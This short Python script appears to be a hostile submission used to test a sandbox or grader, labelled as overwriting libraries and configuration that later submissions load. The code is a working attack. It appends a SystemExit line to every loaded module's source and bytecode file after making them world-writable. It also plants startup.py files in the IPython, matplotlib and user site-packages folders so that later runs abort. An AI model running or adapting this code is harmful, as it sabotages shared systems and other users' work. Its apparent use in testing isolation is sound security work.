# Overwrites libraries, byte code and configuration that later submissions load.
# verdict: others passed
# %%
import os
import sys

import msgpack

for module in [*sys.modules.values()]:
    for path in (getattr(module, "__file__", None), getattr(module, "__cached__", None)):
        if path:
            try:
                os.chmod(path, 0o777)
                open(path, "a").write("\nraise SystemExit('attack-left-this')")
            except OSError:
                pass
for folder in (".ipython/profile_default/startup", ".config/matplotlib", ".local/lib/python3/site-packages"):
    os.makedirs(os.path.join(os.path.expanduser("~"), folder), exist_ok=True)
    open(os.path.join(os.path.expanduser("~"), folder, "startup.py"), "w").write("raise SystemExit")
